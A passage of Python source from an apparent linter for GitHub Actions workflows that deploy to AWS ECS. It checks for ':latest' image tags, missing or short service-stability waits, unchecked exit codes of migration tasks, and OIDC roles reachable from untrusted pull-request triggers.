    cmds = wm.commands(st)[:_MAX_SCRIPT_COMMANDS]
    wd = wm.working_directory(st.data, job.data, job.workflow.data if job.workflow else {})
    out = []
    for c, folder in zip(cmds, L.script_dirs(cmds)):
        if not shell.is_aws(c, "ecs", "register-task-definition"):
            continue
        option = next((o for o in _REGISTER_FILE_OPTIONS if shell.option(c, o) is not None), None)
        value = wm.resolve(shell.option(c, option), job, st, github=github, line=c.line) \
            if option else None
        if not isinstance(value, str) or not value.startswith(("file://", "fileb://")):
            continue
        file = L.written_at(wd, value.split("://", 1)[1], folder)
        if file and "$" not in file and not file.startswith(("/", "~", "..")):
            out.append((file, option, c))
    return out


_MAX_SCRIPT_COMMANDS = 2000  # of one script, followed for the files it registers or writes


def _file_container_images(job, st, file: str, option: str, github, root: str) -> list:
    """The images of the containers of the repository's file `file`: a task
    definition, or for `--container-definitions` a list of containers."""
    import json

    from ecs_lint import probes

    if option == "--container-definitions":
        raw = probes.read_bytes(os.path.join(root, file), 4_000_000)
        try:
            containers = json.loads(raw) if raw is not None else None
        except (ValueError, UnicodeDecodeError, RecursionError):
            containers = None
    else:
        containers = (_taskdef_file(job, st, file, github, root) or {}).get("containerDefinitions")
    images = [c.get("image") for c in containers if isinstance(c, dict)] \
        if isinstance(containers, list) else []
    return [i.strip() for i in images if isinstance(i, str) and i.strip()]


# shell variables naming the runner's own files, which a script writes often
_RUNNER_FILES = ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY",
                 "GITHUB_STATE")


def _rewritten(job, step, command, file: str, github) -> bool:
    """May the job change the workspace file `file` before `step` registers it
    (before `command` in its script, or in a function of it): a command that
    writes it (`wm.written_targets`), or a target not known that may be it (its
    name, a variable); a repository script an earlier step runs that writes
    a file of that name; an action whose inputs name the file or its folder
    (not the render action, which writes a new file, nor the deploy action)."""
    from ecs_lint.xref import linking as L

    folder_of, name = os.path.split(file)
    named = re.compile(r"(?<![\w.-])(?:" + re.escape(name) + r"(?![\w.-])"
                       + (r"|" + re.escape(folder_of) + r"(?:/|(?![\w.-]))" if folder_of else "")
                       + ")")
    for st in job.steps[:step.index + 1]:
        if st.uses and st.uses not in (wm.ECS_RENDER, wm.ECS_DEPLOY) \
                and any(named.search(str(v)) for v in st.with_.values()):
            return True
        if any(t.strip("\"'").rsplit("/", 1)[-1] == name for cmds in st.scripts.values()
               for c in cmds[:_MAX_SCRIPT_COMMANDS] for t, _ in wm.written_targets(c)):
            return True
        cmds = wm.commands(st)[:_MAX_SCRIPT_COMMANDS]
        wd = wm.working_directory(st.data, job.data, job.workflow.data if job.workflow else {})
        for c, folder in zip(cmds, L.script_dirs(cmds)):
            if st is step and (command is None or (c.index >= command.index
                                                   and c.function is None)):
                continue
            for target, into_folder in wm.written_targets(c):
                got = wm.resolve(target, job, st, github=github, line=c.line)
                got = (got if isinstance(got, str) else target).strip("\"'")
                at = L.written_at(wd, got, folder)
                last = got.rstrip("/").rsplit("/", 1)[-1]
                var = re.fullmatch(r"\$\{?(\w+)\}?", last)
                if at == file or (at is None and (last == name or (
                        var is not None and var.group(1) not in _RUNNER_FILES))) \
                        or (into_folder and at is not None
                            and (at == "." or file.startswith(at + "/"))):
                    return True
    return False


def _repository_of(ref: str) -> str:
    """An image reference without its tag and digest."""
    name = ref.split("@", 1)[0]
    head, _, last = name.rpartition("/")
    return (head + "/" if head else "") + last.split(":", 1)[0]


def _input_default_place(wf, job, st, line):
    """(None, path, None) of the `default:` of the workflow input that the
    image a step deploys takes its `latest` from (`${{ inputs.tag }}` in the
    deploying line, or in the env variables it reads), else None."""
    script = (st.run or "").splitlines()
    texts = [script[line]] if line is not None and line < len(script) else []
    texts += [str(v) for v in (*st.with_.values(), *st.env.values(), *job.env.values())]
    for text in texts:
        # (`${{ inputs.tag }}`, `${{ inputs.tag || github.sha }}`)
        names = [n for m in wm.EXPR.finditer(text) for n in _INPUT_NAME.findall(m.group(1))]
        for name in names:
            for event in ("workflow_dispatch", "workflow_call"):
                spec = wf.triggers.get(event) if isinstance(wf.triggers, dict) else None
                inputs = spec.get("inputs") if isinstance(spec, dict) else None
                decl = inputs.get(name) if isinstance(inputs, dict) else None
                if isinstance(decl, dict) and str(decl.get("default", "")).strip() == "latest":
                    return (None, ("on", event, "inputs", name, "default"), None)
    return None


def _latest_problem(doc, job, ref, kind, st, path, line, verb, when=""):
    what = "`:latest`" if kind == "latest" else "no tag (so `:latest`)"
    span = wm.script_span(doc, st, line, ref) if line is not None \
        else wm.composite_default_span(st, "image") if st is not None and st.via else None
    return Problem(IMAGE_LATEST.id, path,
                   f"job '{job.id}'{when} {verb} image '{ref}' with {what}: nobody can tell which "
                   "commit runs, and a rollback redeploys the same moving tag",
                   help="tag the image with the commit (`${{ github.sha }}`) or deploy it by "
                        "digest; an extra `:latest` tag beside it is fine", span=span)


# --- deploy action --------------------------------------------------------------


@check(kinds=("workflow",), rules=(STABILITY_WAIT_OFF.id, STABILITY_WAIT_SHORT.id))
def stability_wait(doc, ctx):
    wf = _workflow(doc)
    minimum = ctx.option(STABILITY_WAIT_SHORT.id, "min-minutes")
    for job in _live_jobs(wf):
        if job.uses:
            yield from _called_stability(doc, job, ctx, minimum)
        for st in job.steps:
            if st.uses != wm.ECS_DEPLOY or not st.with_.get("service"):
                continue
            waits = row_inputs(doc, job, st, "wait-for-service-stability", ctx.config.github)
            if any(_action_true(w) is False for w in waits):
                # at the input that turns it off, else at the step's action
                where = wm.input_path(st, "wait-for-service-stability") \
                    if "wait-for-service-stability" in st.with_ else st.path + ("uses",)
                yield Problem(STABILITY_WAIT_OFF.id, where,
                              "amazon-ecs-deploy-task-definition updates the service without "
                              "`wait-for-service-stability: true`: a deploy that never gets "
                              "healthy, or is rolled back, still passes",
                              help="set `wait-for-service-stability: true` and "
                                   f"`wait-for-minutes: {minimum}` or more",
                              span=wm.composite_input_span(st, "wait-for-service-stability")
                              if "wait-for-service-stability" in st.with_
                              else wm.composite_span(st, ("uses",)))
            elif any(_action_true(w) is True for w in waits):
                written = _input_as_written(doc, st, "wait-for-minutes")
                known = [m for m in map(_wait_minutes, row_inputs(
                    doc, job, st, "wait-for-minutes", ctx.config.github)) if m is not None]
                if known and min(known) < minimum:
                    shown = f"`wait-for-minutes: {written}`"
                    if min(known) != _wait_minutes(written):
                        shown += f" ({min(known)} in some run)" if "${{" in str(written) \
                            and not job.strategy.get("matrix") else \
                            f" ({min(known)} in a row of the matrix)"
                    yield Problem(STABILITY_WAIT_SHORT.id, wm.input_path(st, "wait-for-minutes"),
                                  f"{shown} is "
                                  f"below {minimum}: a slow but healthy rollout times out and "
                                  "fails the deploy",
                                  help=f"wait {minimum} to 20 minutes (the action's default "
                                       "is 30)",
                                  # (written in a local composite action: its file)
                                  span=wm.composite_input_span(st, "wait-for-minutes"))


def row_inputs(doc, job, st, name, github=None) -> list:
    """A step's input as written (read as GitHub reads it, see
    `_input_as_written`), or, where it is an expression, its value in each row of
    the job's matrix, with the config's `vars`, in a dispatched workflow each
    event's inputs (none on a push), and, where it reads the ref or the event
    (`startsWith(github.ref, 'refs/tags/') && A || B`), once per event the job
    runs on and kind of ref it has (expressions the workflow can't tell stay as
    written)."""
    v = st.with_.get(name)
    if not (isinstance(v, str) and "${{" in v):
        return [_input_as_written(doc, st, name)]
    runs = [github or {}]
    wf = job.workflow
    events = sorted(wm.job_events(wf, job)) if wf is not None else []
    dispatched = "workflow_dispatch" in wf.triggers and "inputs." in v if events else False
    by_run = bool(events) and _READS_RUN.search(v) is not None
    if dispatched or by_run:
        runs = [{**(github or {}),
                 **({"inputs": _dispatch_inputs(wf, event)} if dispatched else {}),
                 **({wm.FACTS: {"event_name": ("==", event), **facts}} if by_run else {})}
                for event in events
                for _, facts in (_ref_runs(wf, event) if by_run else [("", {})])]
    return [wm.resolve(v, job, st, row, g) for g in runs for row in job.matrix_rows(g)]


# an expression that depends on the run's event or ref
_READS_RUN = lazy_re(r"\bgithub\.(?:ref|ref_type|ref_name|event_name)\b", re.I)


def _called_stability(doc, job, ctx, minimum):
    """The stability inputs of the deploy steps of a local reusable workflow
    the job calls, where they are `${{ inputs.X }}`: judged with the value this
    caller gives (reported at its `with: X`) or the input's default (at its
    `uses:`), in each row of the caller's matrix (the shortest wait reported)."""
    callee = _local_workflow(job, ctx)
    if callee is None:
        return
    rows = job.matrix_rows(ctx.config.github) if "matrix." in str(job.with_) else [{}]
    calls = [(row, wm.caller_inputs(callee, wm.with_row(job.data, row))) for row in rows]
    seen = set()
    for called in callee.jobs.values():
        for st in called.steps:
            if st.uses != wm.ECS_DEPLOY or not st.with_.get("service"):
                continue
            names = {}
            for key in ("wait-for-service-stability", "wait-for-minutes"):
                m = wm.INPUT_REF.fullmatch(str(st.with_.get(key, "")).strip())
                if m:
                    names[key] = m.group(1)
            # (the callee's own literal: its text is in another file than `doc`)
            own_wait = _action_true(st.with_.get("wait-for-service-stability"))
            off, short = None, None  # (value, row) of the first row off, the shortest wait
            for row, inputs in calls:
                name = names.get("wait-for-service-stability")
                wait = inputs.get(name) if name else None
                waits = _action_true(wait) if wait is not None else None
                if waits is False:
                    off = off or (wait, row)
                    continue
                name = names.get("wait-for-minutes")
                minutes = _wait_minutes(inputs.get(name)) if name else None
                if (waits is True or own_wait) and minutes is not None and minutes < minimum \
                        and (short is None or minutes < short[0]):
                    short = (minutes, row)
            for key, got in (("wait-for-service-stability", off), ("wait-for-minutes", short)):
                name = names.get(key)
                where = job.path + (("with", name) if name in job.with_ else ("uses",))
                if got is None or where in seen:
                    continue
                seen.add(where)
                value, row = got
                shown = f"`{name}: {str(value).lower() if isinstance(value, bool) else value}`" \
                    + (f" (matrix row {dict(row)})" if row else "")
                if key == "wait-for-service-stability":
                    yield Problem(STABILITY_WAIT_OFF.id, where,
                                  f"job '{job.id}' gives {job.uses} {shown}, which it "
                                  "passes as `wait-for-service-stability`: the service is "
                                  "updated without waiting, so a deploy that never gets healthy "
                                  "still passes",
                                  help=f"pass `{name}: true`")
                else:
                    yield Problem(STABILITY_WAIT_SHORT.id, where,
                                  f"job '{job.id}' gives {job.uses} {shown}, which it "
                                  f"passes as `wait-for-minutes`: below {minimum}, a slow but "
                                  "healthy rollout times out and fails the deploy",
                                  help=f"pass {minimum} to 20 minutes (the action's default "
                                       "is 30)")


def _input_as_written(doc, st, name):
    """A step input as GitHub reads it: YAML 1.2 (`wm.yaml12_plain`), where
    `yes`, `on` and `1:00` are text (PyYAML's YAML 1.1 makes them true and 60)."""
    v = st.with_.get(name)
    path = wm.input_path(st, name)  # (a composite's step: the caller's input that gives it)
    if isinstance(v, (bool, int, float)) and path[-2:-1] == ("with",):
        span = doc.span(path)
        lines = (doc.text or "").splitlines()
        if span.end_line == span.line and 0 < span.line <= len(lines):
            text = lines[span.line - 1][span.column - 1:span.end_column - 1]
            if text.strip() and text.strip()[0] not in "*&!'\"[{|>":  # a plain scalar
                v = wm.yaml12_plain(text)
    return v


def _action_input_true(doc, st, name) -> Optional[bool]:
    """`_action_true` of a step input as GitHub reads it (`_input_as_written`)."""
    return _action_true(_input_as_written(doc, st, name))


def _action_true(v) -> Optional[bool]:
    """A boolean input as amazon-ecs-deploy-task-definition reads it: only `true`
    (any case) is true; `yes`, `1`, `on` are false. None: an expression."""
    if v is None or isinstance(v, bool):
        return bool(v)
    if isinstance(v, str):
        return None if "${{" in v else v.strip().lower() == "true"
    return False if isinstance(v, (int, float)) else None  # a mapping or list: not valid


_LEADING_INT = lazy_re(r"\s*([+-]?\d+)")


def _wait_minutes(v) -> Optional[int]:
    """`wait-for-minutes` as the action reads it: `parseInt(value) || 30` (so `0`
    or text that is not a number waits the default 30 minutes). None: unknown."""
    if isinstance(v, bool) or v is None:
        return 30
    if isinstance(v, (int, float)):
        return int(v) or 30 if math.isfinite(v) else 30  # (`.inf`: parseInt('Infinity'))
    if isinstance(v, str):
        if "${{" in v:
            return None
        m = _LEADING_INT.match(v)
        return (int(m.group(1)) if m else 0) or 30
    return None


# --- migrations -------------------------------------------------------------------

_FAIL_TESTS = ("[", "[[", "test")


@check(kinds=("workflow",), rules=(MIGRATION_UNCHECKED.id,))
def migrations(doc, ctx):
    wf = _workflow(doc)
    # the runs whose step `if:`s to read: a reusable workflow's local calls, each
    # with its inputs; else one run with the inputs unknown
    callers = wm.local_callers(doc.file, wf, ctx.repo_root) \
        if "workflow_call" in wf.triggers else None
    runs = [(f"{f} job '{j}'", inputs) for f, j, inputs in callers or []] or [(None, None)]
    for job in _live_jobs(wf):
        for st in job.steps:
            if st.uses == wm.ECS_DEPLOY and _action_input_true(doc, st, "run-task") is True:
                if _action_input_true(doc, st, "wait-for-task-stopped") is False:
                    yield Problem(MIGRATION_UNCHECKED.id, st.path + ("uses",),
                                  "the deploy action runs a task (`run-task: true`) without "
                                  "`wait-for-task-stopped: true`: its exit code is never checked",
                                  help="set `wait-for-task-stopped: true`; the action then fails "
                                       "on a non-zero exit code")
                elif _continues_on_error(st) and not _outcome_read(job, st):
                    yield Problem(MIGRATION_UNCHECKED.id, st.path + ("uses",),
                                  "the deploy action runs a task and fails on its exit code, "
                                  "but the step has `continue-on-error: true`: the job goes on "
                                  "to deploy after a failed task",
                                  help="drop `continue-on-error`, or give the later steps "
                                       f"`if: steps.{st.id or 'ID'}.outcome == 'success'`")
            for c, where, in_job, st_read in _run_tasks(job, st):
                missed = [(name, _run_task_missing(in_job, st_read, c,
                                                   _skipped_steps(in_job, inputs)))
                          for name, inputs in runs if not _skipped(st, job, inputs)]
                missed = [(name, why) for name, why in missed if why]
                if not missed:
                    continue
                when = f" when called by {', '.join(n for n, _ in missed)}" \
                    if len(missed) < len(runs) else ""
                yield Problem(MIGRATION_UNCHECKED.id, st.run_path,
                              f"`aws ecs run-task`{where} starts a task{when} but {missed[0][1]}",
                              help="after run-task: `aws ecs wait tasks-stopped`, then read "
                                   "`tasks[0].containers[0].exitCode` with `aws ecs "
                                   "describe-tasks` and `exit 1` when it is not 0, in a step "
                                   "that runs whenever the task does",
                              span=wm.script_span(doc, st, c.line if not where else
                                                  _caller_line(st, where)))


def _skipped(step, job, inputs) -> bool:
    """Is the step skipped: its `if:` false as written (`if: false`, `wm.step_if`)
    or with the `inputs` a call passes (`if: inputs.wait-for-exit` left at its
    default false; None: inputs not known)?"""
    if wm.step_if(step, job) is False:
        return True
    return inputs is not None and step.via is None and wm.call_if(step.if_, inputs) is False


def _skipped_steps(job, inputs) -> frozenset:
    """The indexes of the job's steps that `_skipped` skips with `inputs`."""
    return frozenset(st.index for st in job.steps if _skipped(st, job, inputs))


def _run_task_missing(job, step, run_cmd, skipped: frozenset) -> str:
    """What the job leaves undone after a run-task (''  when it waits for the
    task and checks its exit code), the steps in `skipped` not run."""
    waited, checked = _run_task_followed(job, step, run_cmd, skipped=skipped)
    if waited and checked:
        return ""
    if skipped and all(_run_task_followed(job, step, run_cmd)):
        off = next((s.if_ for s in job.steps[step.index + 1:] if s.index in skipped), False)
        off = off.strip() if isinstance(off, str) else str(off).lower()
        off = f"`if: {off}`" if len(off) <= 80 else "its `if:`"
        return (f"the step that waits for it and checks its exit code is skipped "
                f"({off} is false): a failed task does not stop the job")
    missing = ("waits for the task to stop nor checks its exit code"
               if not waited and not checked else
               "waits for the task to stop" if not waited else
               "checks the container exit code")
    if waited and _run_task_followed(job, step, run_cmd, honour_continue=False,
                                     skipped=skipped)[1]:
        missing = ("stops on a bad exit code: the step that checks it has "
                   "`continue-on-error: true`")
    elif waited and _run_task_followed(job, step, run_cmd, any_test=True, skipped=skipped)[1]:
        missing = ("fails on every non-zero exit code: its test of the code lets "
                   "some failing codes through (`-eq 1` passes 137)")
    elif all(_run_task_followed(job, step, run_cmd, past_deploys=True, skipped=skipped)):
        missing = ("checks the exit code before it deploys: the check comes "
                   "after the deploy step, so the service is updated even when "
                   "the task fails")
    return f"the job never {missing}".replace("never waits for the task to stop nor",
                                              "neither waits for the task to stop nor")


def _run_tasks(job, step):
    """(run-task command, where it is written, the job and step to read what
    follows it in) of a step: its own script's, then those of the repository
    scripts and makefile targets it runs (`./scripts/migrate.sh`, `make
    migrate`), read as if they were the step's script (what follows the
    script in the step is not read; the later steps are)."""
    for c in wm.commands(step):
        if shell.is_aws(c, "ecs", "run-task"):
            yield c, "", job, step
    for path, cmds in step.scripts.items():
        if not any(shell.is_aws(c, "ecs", "run-task") for c in cmds):
            continue
        read = dataclasses.replace(step, _commands=cmds)
        in_job = dataclasses.replace(job, steps=[read if s is step else s for s in job.steps])
        for c in cmds:
            if shell.is_aws(c, "ecs", "run-task"):
                yield c, f" in {path}", in_job, read


def _caller_line(step, where: str) -> Optional[int]:
    """The line of the step's script that runs the script or makefile `where`
    names (` in scripts/migrate.sh`)."""
    name = os.path.basename(where.removeprefix(" in "))
    make = name.lower() in ("makefile", "gnumakefile")
    return next((c.line for c in wm.commands(step)
                 if (make and c.name == "make") or any(name in a for a in c.argv)), None)


def _outcome_read(job, step) -> bool:
    """Does a later step (or the job's outputs) read the step's `outcome` or
    `conclusion`, so that a failure it continues past can still stop what follows?"""
    if not step.id:
        return False
    ref = re.compile(rf"steps\.{re.escape(step.id)}\.(?:outcome|conclusion)\b")
    return any(ref.search(str(st.data)) for st in job.steps[step.index + 1:]) \
        or bool(ref.search(str(job.outputs)))


def _outcome_fails_job(job, step) -> bool:
    """Does a later step, before the next deploy, fail the job whenever this
    step failed past its `continue-on-error: true`: one whose `if:` is (or
    has as an `||` alternative) `steps.ID.outcome == 'failure'` (or `!=
    'success'`) and whose script ends in `exit 1` (`_ends_in_failure`)? Not
    `failure()`: the step's conclusion is success, so failure() stays false
    (actions/toolkit#1034)."""
    if not step.id or step.via:
        return False
    ref = rf"steps\.{re.escape(step.id)}\.outcome"
    failed = re.compile(rf"{ref}\s*==\s*'failure'|'failure'\s*==\s*{ref}|"
                        rf"{ref}\s*!=\s*'success'|'success'\s*!=\s*{ref}", re.I)
    for st in job.steps[step.index + 1:]:
        if wm.deploys_of(st):
            break
        if _fails_job_on(st, failed):
            return True
    return False


def _run_task_followed(job, step, run_cmd, honour_continue: bool = True,
                       past_deploys: bool = False, any_test: bool = False,
                       skipped: frozenset = frozenset()):
    """(waited, checked) for the commands after a run-task, in this and later
    steps up to the next step that deploys (a check after it no longer stops
    the deploy; with `past_deploys`, in every later step); with
    `honour_continue` False, as if no step had `continue-on-error`: to tell a
    check it neutralises from no check at all; with `any_test`, taking a test
    that lets some failing codes through (`-eq 1`) as a check. Values `read`
    takes from a here-string or here-document of the output (`while read -r
    name code; do ...; done <<< "$OUT"`) are followed. The steps whose indexes
    are in `skipped` do not run (`_skipped`)."""
    waited = checked = False
    exit_vars = set()  # variables holding describe-tasks output (with exit codes)
    chain = set()  # command indexes (in their step) reading describe-tasks output
    saw_exit_code = False
    for st in job.steps[step.index:]:
        if st is not step and st.index in skipped:
            continue
        if st is not step and not past_deploys and wm.deploys_of(st):
            break
        cmds = wm.commands(st)
        ran = _in_run_order(cmds)
        if st is step:  # what runs after the run-task
            at = next((k for k, c in enumerate(ran) if c is run_cmd), None)
            ran = ran[at + 1:] if at is not None else [c for c in ran if c.index > run_cmd.index]
        chain = set()
        tested = False  # a test of the exit code came before (an `exit 1` then fails on it)
        errexit = _errexit(job, st)
        fails_step = not (honour_continue and _continues_on_error(st)
                          and not _outcome_fails_job(job, st))
        # the script's status is its last command's: a bare test there fails the
        # step even without -e
        last = next((c for c in reversed(cmds) if c.argv and not c.in_substitution
                     and not c.function), None)
        for c in ran:
            service, op, rest = shell.aws_operation(c)
            text = " ".join(c.argv)
            if service == "ecs" and op == "wait" and rest[:1] == ["tasks-stopped"]:
                waited = True
            reads = (c.pipe_from in chain) or any(_mentions(text, v) for v in exit_vars) \
                or any(_mentions(v2, v) for v2 in c.assigns.values() for v in exit_vars) \
                or any(i.parent == c.index and i.index in chain for i in cmds) \
                or (c.name == "read" and any(_mentions(t, v) for t in _input_text(c)
                                             for v in exit_vars))
            if service == "ecs" and op == "describe-tasks":
                if c.in_loop:
                    waited = True
                reads = True
            if not reads:
                if saw_exit_code and fails_step and _fails(c, exit_vars, tested,
                                                           errexit or c is last):
                    checked = True
                continue
            chain.add(c.index)
            if (c.in_condition or c.op_after in ("&&", "||") or c.name in _FAIL_TESTS) \
                    and c.name != "read" and (any_test or not _tests_some_codes_only(c)):
                tested = True  # (`while read ...` asks for a line, not of the code)
            mentions_exit = "exitcode" in text.lower()
            if mentions_exit:
                saw_exit_code = True
            if c.captured_by:
                exit_vars.add(c.captured_by)
            for k in c.assigns:
                exit_vars.add(k)
            exit_vars.update(shell.read_names(c))
            if mentions_exit and c.name == "jq" and any(a in ("-e", "--exit-status")
                                                         or (a.startswith("-") and not
                                                             a.startswith("--") and "e" in a)
                                                         for a in c.argv[1:]) \
                    and fails_step and errexit and (c.op_after != "|" or _pipefail(job, st)):
                checked = True
            if saw_exit_code and fails_step and (_fails(c, exit_vars, tested,
                                                        errexit or c is last) or (
                    errexit and c.name in _FAIL_TESTS and not c.in_condition and not c.negated
                    and any(i.parent == c.index and i.index in chain for i in cmds)) or (
                    errexit and c.pipe_from in chain and _greps_zero(c))):
                checked = True
        if waited and checked:
            break
        if st is step and not _hands_on(step, run_cmd):
            break  # later steps cannot know which task was started
    return waited, checked


def _in_run_order(cmds, depth: int = 4):
    """A script's commands in the order they run: a shell function's body
    where the function is called (up to `depth` calls deep), not where it is
    defined."""
    bodies = {}
    for c in cmds:
        if c.function:
            bodies.setdefault(c.function, []).append(c)
    if not bodies:
        return list(cmds)

    def run(seq, left, calling):
        for c in seq:
            yield c
            if c.name in bodies and left and c.name not in calling:
                yield from run(bodies[c.name], left - 1, calling | {c.name})
    return list(run([c for c in cmds if not c.function], depth, frozenset()))


def _greps_zero(c) -> bool:
    """`... exitCode ... | grep -qx 0` ending its pipeline, outside any condition:
    with `-e` the pipeline's status is grep's, so the step fails unless the exit
    code read is exactly 0."""
    if c.name != "grep" or c.op_after == "|" or c.in_condition or c.negated:
        return False
    args = c.argv[1:]
    short = "".join(a[1:] for a in args if a.startswith("-") and not a.startswith("--"))
    if "v" in short or "--invert-match" in args:
        return False
    pats = [a for a in args if not a.startswith("-")]
    whole = "x" in short or "--line-regexp" in args
    return len(pats) == 1 and (pats[0] == "^0$" or (whole and pats[0] in ("0", "^0$")))


def _hands_on(step, run_cmd):
    """Does the step pass the task it started to later steps ($GITHUB_OUTPUT/$GITHUB_ENV)?"""
    var = run_cmd.captured_by
    if not var:
        return False
    written = list(wm.step_outputs(step).values()) + list(wm.env_writes(step).values())
    return any(_mentions(w.value, var) for w in written)


def _mentions(text, var):
    return bool(re.search(r"\$\{?" + re.escape(var) + r"\b", text or ""))


def _input_text(c) -> list:
    """What a command reads from the script itself: the word of a here-string
    (`<<< "$OUT"`, also one after a loop's `done`) and a here-document's text."""
    return [t for op, t in c.redirects if op == "<<<"] + ([c.heredoc] if c.heredoc else [])


_NOT_A_CODE = {"none", "null", "", "nil", "undefined", "missing"}


def _tests_some_codes_only(c) -> bool:
    """A test that cannot tell every failing exit code from 0: it only asks
    whether there is an exit code at all (`[ "$EXIT" = "None" ]`, `[ -z
    "$EXIT" ]`: a failing migration's 1 passes it) or compares it with a
    non-zero code (`[ "$EXIT" -eq 1 ]`: an OOM kill's 137 passes it), so an
    `exit 1` it guards does not stop every failed task. `!= 0`, `-ne 0`,
    `-gt 0`, `= 0` (with `|| exit 1`) tell them apart."""
    if c.name not in _FAIL_TESTS:
        return False
    args = [a.strip('"\'') for a in c.argv[1:] if a not in ("]", "]]")]
    ops = [(i, a) for i, a in enumerate(args) if a in _CODE_TESTS + ("-z", "-n")]
    if not ops:
        return False
    for i, op in ops:
        if op in ("-z", "-n"):
            continue
        left = args[i - 1] if i > 0 else ""
        right = args[i + 1] if i + 1 < len(args) else ""
        if _NUMBER.fullmatch(left) and not _NUMBER.fullmatch(right):  # `[ 0 -ne "$EXIT" ]`
            left, right, op = right, left, _MIRRORED.get(op, op)
        if op in ("=", "==") and (right.lower() in _NOT_A_CODE or left.lower() in _NOT_A_CODE):
            continue
        if _NUMBER.fullmatch(right) and int(right) != _ZERO_SPLIT.get(op, 0):
            continue
        return False
    return True


_CODE_TESTS = ("=", "==", "!=", "-eq", "-ne", "-gt", "-lt", "-ge", "-le")
_NUMBER = lazy_re(r"-?\d{1,6}")
_MIRRORED = {"-gt": "-lt", "-lt": "-gt", "-ge": "-le", "-le": "-ge"}
# the number a comparison must be made with to put 0 on one side and every
# other code on the other (`-gt 0`, `-ge 1`, `-lt 1`, `-le 0`; else 0)
_ZERO_SPLIT = {"-ge": 1, "-lt": 1}


def _fails(c, exit_vars, tested: bool = True, errexit: bool = True):
    """A command that makes the step fail when the exit code is bad: `exit N`
    after a test of the exit code (or `exit "$EXIT"`), `false`/`return N` so
    guarded, or (with `-e`) a bare test of it."""
    if c.name in ("exit", "return"):
        arg = c.argv[1] if len(c.argv) > 1 else ""
        if any(_mentions(arg, v) for v in exit_vars):
            return True
        return arg not in ("", "0") and tested
    if c.name == "false" and (c.guarded or c.in_condition is False):
        return tested
    if c.name in _FAIL_TESTS and not c.in_condition and not c.negated:
        return errexit and any(_mentions(a, v) for a in c.argv for v in exit_vars)
    return False


def _errexit(job, step) -> bool:
    """Does the step's shell stop at the first failing command
    (`_shell_errexit`), or `set -e` in the script make it? Not pwsh,
    powershell or cmd: a failing program does not stop them (unless the
    script sets PowerShell 7.3's `$PSNativeCommandUseErrorActionPreference`)."""
    if wm.windows_shell(job, step):
        return bool(_NATIVE_STOPS.search(step.run or ""))
    if _shell_errexit(job, step):
        return True
    return bool(re.search(r"(?m)^\s*set\s+-[a-z]*e", step.run or ""))


_NATIVE_STOPS = lazy_re(r"(?i)\$PSNativeCommandUseErrorActionPreference\s*=\s*\$true")
_READS_EXIT_CODE = lazy_re(r"(?i)LASTEXITCODE|PSNativeCommandUseErrorActionPreference|\$\?|"
                           r"ERRORLEVEL")


def _shell_errexit(job, step) -> bool:
    """Does the step's shell start with `-e`? GitHub's shells do (unspecified:
    `bash -e {0}`; `bash`: `bash --noprofile --norc -eo pipefail {0}`; `sh`:
    `sh -e {0}`); a shell written out (`bash {0}`) only with `-e` in it."""
    shell = wm.script_shell(job, step)
    if not isinstance(shell, str) or "{0}" not in shell:
        return True
    return bool(re.search(r"(?:^|\s)-[a-z]*e", shell))


_SET_PIPEFAIL = lazy_re(r"(?m)^\s*set\b[^\n#]*-[a-zA-Z]*o\s+pipefail\b")


def _pipefail(job, step) -> bool:
    """Does a failure inside a pipeline fail the pipeline? Only `shell: bash`
    (GitHub runs it with `-o pipefail`), a shell written out with pipefail, or
    `set -o pipefail` in the script: an unspecified shell is `bash -e {0}` and
    `sh` is `sh -e {0}`, where a pipeline's status is its last command's."""
    shell = wm.script_shell(job, step)
    if isinstance(shell, str) and (shell.strip() == "bash" or (
            "{0}" in shell and "pipefail" in shell)):
        return True
    return bool(_SET_PIPEFAIL.search(step.run or ""))


def _continues_on_error(step) -> bool:
    """`continue-on-error: true`: the job goes on when the step fails (or when
    the local composite action it is part of fails, on its calling step)."""
    return wm.continues_on_error(step.data) or getattr(step, "caller_continues", False)


# --- triggers -----------------------------------------------------------------------

_READ_ONLY_ROLE = lazy_re(r"read[-_]?only|readonly|(?:^|[-_/])ro$|(?:^|[-_/])plan(?:$|[-_])",
                             re.I)


@check(kinds=("workflow",), rules=(UNTRUSTED_TRIGGER.id, OIDC_ON_PULL_REQUEST.id))
def oidc_triggers(doc, ctx):
    wf = _workflow(doc)
    for job in _live_jobs(wf):
        job_events = wm.job_events(wf, job)
        merge_ref = wm.pull_request_ref_is_merge(wf.triggers)
        # (role use, events it runs on, where to point, who assumes it); a step's
        # own `if:` narrows the events on which it assumes the role
        uses = [(ru, wm.if_events(ru.step.if_, merge_ref).admit(job_events), _use_path(ru),
                 f"job '{job.id}'", job) for ru in job.role_uses()
                if ru.oidc or (job.id_token_write and _token_file_use(ru))]
        if job.uses:  # a local reusable workflow runs on the caller's events
            for called, ru in _called_role_uses(job, ctx) or []:
                events = wm.if_events(ru.step.if_ if ru.step else None, merge_ref).admit(
                    wm.if_events(called.if_, merge_ref).admit(job_events))
                uses.append((ru, events, job.path + ("uses",),
                             f"job '{job.id}' (through {job.uses}, job '{called.id}')", called))
            handed = _handed_remote_role(job) if job.id_token_write else None
            if handed is not None:  # another repository's workflow assumes it on these events
                uses.append((handed, job_events, job.path + ("uses",),
                             f"job '{job.id}' (through {job.uses}, which it hands the role)",
                             job))
        untrusted = [(u, sorted(u[1] & {"pull_request_target", "workflow_run"})) for u in uses]
        untrusted = [(u, bad) for u, bad in untrusted if bad]
        if untrusted and job.id_token_write:
            (ru, _, path, who, _), bad = untrusted[0]
            yield Problem(UNTRUSTED_TRIGGER.id, path,
                          f"{who} can mint an OIDC token and assumes "
                          f"{_role_text(ru)} on `{bad[0]}`, which runs with the base "
                          "repository's trust for changes from forks: "
                          + ("the pull request's author can reach the role"
                             if bad[0] == "pull_request_target" else
                             "the author of the run it follows (a fork's pull request "
                             "included) can reach the role"),
                          help="run the AWS part on `push`/`pull_request` only, or split it into "
                               "a job without checkout of untrusted code and behind an "
                               "environment with reviewers")
        on_pr = [(u, [e for e in _PULL_REQUEST_EVENTS if e in u[1]]) for u in uses]
        on_pr = [(u, events) for u, events in on_pr if events]
        if on_pr:
            # a read-only OIDC role may chain into a deploy role (`role-chaining`)
            chained = [(ru, wm.if_events(ru.step.if_, merge_ref).admit(job_events),
                        _use_path(ru), f"job '{job.id}'", job) for ru in job.role_uses()
                       if not ru.oidc and wm._truthy(ru.step.with_.get("role-chaining")) is True]
            on_pr += [(u, events) for u, events in (
